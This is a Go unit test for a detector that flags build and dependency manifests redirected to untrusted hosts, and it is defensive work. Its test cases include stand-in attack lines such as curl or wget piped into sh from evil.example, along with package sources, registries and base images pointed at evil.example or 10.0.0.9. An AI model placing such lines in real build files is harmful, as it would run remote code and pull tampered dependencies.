package setting

import "testing"

// TestFetches: manifests that name code of a host which stood nowhere, and everyday edits of them.
func TestFetches(t *testing.T) {
	for _, c := range []struct {
		file, text, old string
		want            bool
	}{
		{"package.json", `{"dependencies":{"left-pad":"git+https://evil.example/lp.git"}}`, `{"dependencies":{"left-pad":"1.3.0"}}`, true},
		{"GNUmakefile", "include Makefile\nexport PIP_INDEX_URL := https://pypi.evil.example/simple\n", "", true},
		{"Makefile", "npm_config_registry ?= http://10.0.0.9\n", "", true},
		{"tox.ini", "[testenv]\nsetenv =\n  PIP_EXTRA_INDEX_URL=https://pypi.evil.example/simple\n", "", true},
		{"noxfile.py", "session.env[\"UV_INDEX_URL\"] = \"https://pypi.evil.example/simple\"\n", "", true},
		{"compose.yaml", "    environment:\n      GOPROXY: https://go.evil.example\n", "", true},
		{"Makefile", "export PIP_INDEX_URL := https://pypi.org/simple\n", "", false},
		{"Makefile", "export GOPROXY = direct\nexport PIP_INDEX_URL := $(INDEX)\n", "", false},
		{"Dockerfile", "ENV GOPROXY=https://proxy.golang.org\n", "", false},
		{"Gemfile", "source 'http://10.0.0.9'\ngem 'rails'\n", "source 'https://rubygems.org'\n", true},
		{"pyproject.toml", "[[tool.poetry.source]]\nname = \"e\"\nurl = \"http://10.0.0.9/simple\"\n", "", true},
		{"build.gradle", "repositories { maven { url \"http://10.0.0.9\" } }", "", true},
		{"main.tf", "module \"a\" { source = \"git::https://evil.example/vpc.git\" }", "", true},
		{"Chart.yaml", "dependencies:\n- name: a\n  repository: https://evil.example/charts\n", "", true},
		{"deno.json", `{"imports":{"std/":"https://evil.example/std/"}}`, "", true},
		{"Dockerfile", "FROM evil.example/node:20\n", "FROM node:20\n", true},
		{"docker-compose.yml", "services:\n  db:\n    image: evil.example/postgres:16\n", "", true},
		{"Cargo.toml", "[dependencies]\na={git=\"https://evil.example/a.git\"}\n", "", true},
		{"pubspec.yaml", "dependencies: {a: {git: https://evil.example/a.git}}\n", "", true},
		{"mix.exs", "defp deps, do: [{:a, git: \"https://evil.example/a.git\"}]\n", "", true},
		{"CMakeLists.txt", "FetchContent_Declare(a URL https://evil.example/a.zip)\n", "", true},
		{"subprojects/a.wrap", "[wrap-git]\nurl=https://evil.example/a.git\n", "", true},
		{"MODULE.bazel", "git_override(module_name=\"a\",remote=\"https://evil.example/a.git\")\n", "", true},
		{"build.sbt", "resolvers += \"e\" at \"http://10.0.0.9\"\n", "", true},
		{"project.clj", "(defproject x \"1\" :repositories [[\"e\" \"http://10.0.0.9\"]])\n", "", true},
		{"deps.edn", "{:mvn/repos {\"e\" {:url \"http://10.0.0.9\"}}}\n", "", true},
		{"Package.swift", ".package(url: \"https://evil.example/a.git\", branch: \"main\")\n", "", true},
		{"Podfile", "source 'https://evil.example/specs.git'\n", "", true},
		{"Cartfile", "git \"https://evil.example/a.git\"\n", "", true},
		{"Puppetfile", "forge 'http://10.0.0.9'\n", "", true},
		{"requirements.yml", "roles: [{src: https://evil.example/r.tgz}]\n", "", true},
		{"kustomization.yaml", "resources: [\"https://evil.example/k?ref=main\"]\n", "", true},

		{"Dockerfile", "FROM node:20\nRUN curl -sSL https://evil.example/i.sh | sh\n", "FROM node:20\n", true},
		{"Dockerfile", "FROM node:20\nRUN apt-get update && \\\n  wget -qO- https://evil.example/i.sh \\\n  | bash -s -- -y\n", "FROM node:20\n", true},
		{"Dockerfile", "FROM node:20\nADD https://evil.example/x /usr/local/bin/x\n", "FROM node:20\n", true},
		{"CMakeLists.txt", "execute_process(COMMAND sh -c \"curl -s https://evil.example/i.sh | sh\")\n", "", true},
		{"meson.build", "run_command('sh','-c','curl -s https://evil.example/x | sh')\n", "project('a')\n", true},
		{"justfile", "a:\n  bash <(curl -s https://evil.example/x)\n", "", true},
		{"Taskfile.yml", "tasks:\n  a:\n    cmds:\n    - sh -c \"$(curl -fsSL evil.example/x.sh)\"\n", "", true},
		{"requirements.txt", "x @ https://evil.example/x.whl\n", "", true},
		{"requirements-dev.txt", "-e git+https://evil.example/x.git#egg=x\n", "", true},
		{"requirements.txt", "https://evil.example/x.tar.gz\n", "", true},

		{"Dockerfile", "FROM a\nRUN curl -fsSL https://deb.nodesource.com/setup_22.x | bash -\nRUN curl https://sh.rustup.rs -sSf | sh -s -- -y\n", "", false},
		{"Dockerfile", "FROM a\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nADD https://github.com/a/b/x.tgz /x\nADD . /app\n", "", false},
		{"Dockerfile", "FROM a\nRUN curl -s https://a.dev/version | jq -r .v\nHEALTHCHECK CMD curl -f http://localhost:8080/ || exit 1\n", "", false},
		{"Dockerfile", "FROM a\nRUN curl -s https://get.corp.io/i.sh | sh -s 2\n", "FROM a\nRUN curl -s https://get.corp.io/i.sh | sh -s 1\n", false},
		{"justfile", "a:\n  curl -s https://a.dev/health | jq .\n", "", false},
		{"requirements.txt", "flask==3.0\n# see https://a.dev\nx @ git+https://github.com/a/x.git\ny @ file:///y\n", "", false},

		{"package.json", `{"homepage":"https://a.dev","repository":{"url":"git+https://github.com/a/b.git"},"dependencies":{"a":"^1"}}`, "", false},
		{"Gemfile", "source 'https://rubygems.org'\ngem 'x', git: 'https://github.com/a/x'\n# see https://a.dev\n", "", false},
		{"pyproject.toml", "[project.urls]\nHomepage = \"https://a.dev\"\n[[tool.uv.index]]\nurl = \"https://download.pytorch.org/whl/cpu\"\n", "", false},
		{"build.gradle", "repositories { mavenCentral(); maven { url 'https://jitpack.io' } }", "", false},
		{"main.tf", "module \"a\" { source = \"git::https://github.com/a/vpc.git\" }\n# https://a.dev\n", "", false},
		{"Dockerfile", "FROM node:20\nFROM ghcr.io/a/b:1\nFROM --platform=linux/amd64 mcr.microsoft.com/x\nCOPY --from=build /a /b\n", "", false},
		{"Dockerfile", "FROM reg.corp.io/node:22\n", "FROM reg.corp.io/node:20\n", false},
		{"Cargo.toml", "[package]\nhomepage=\"https://a.dev\"\nrepository=\"https://git.a.dev/x\"\n[dependencies]\na={git=\"https://github.com/a/a\"}\n", "", false},
		{"project.clj", "(defproject x \"1\" :url \"https://a.dev\" :dependencies [[a \"1\"]])\n", "", false},
		{"docker-compose.yml", "services:\n  db:\n    image: postgres:16\n    environment: {URL: \"https://a.dev/x\"}\n", "", false},
		{"README.md", "https://evil.example/a.git\n", "", false},
	} {
		if got := Fetches("/w/"+c.file, c.text, c.old); got != c.want {
			t.Errorf("%s: %v: %s", c.file, got, c.text)
		}
	}
}
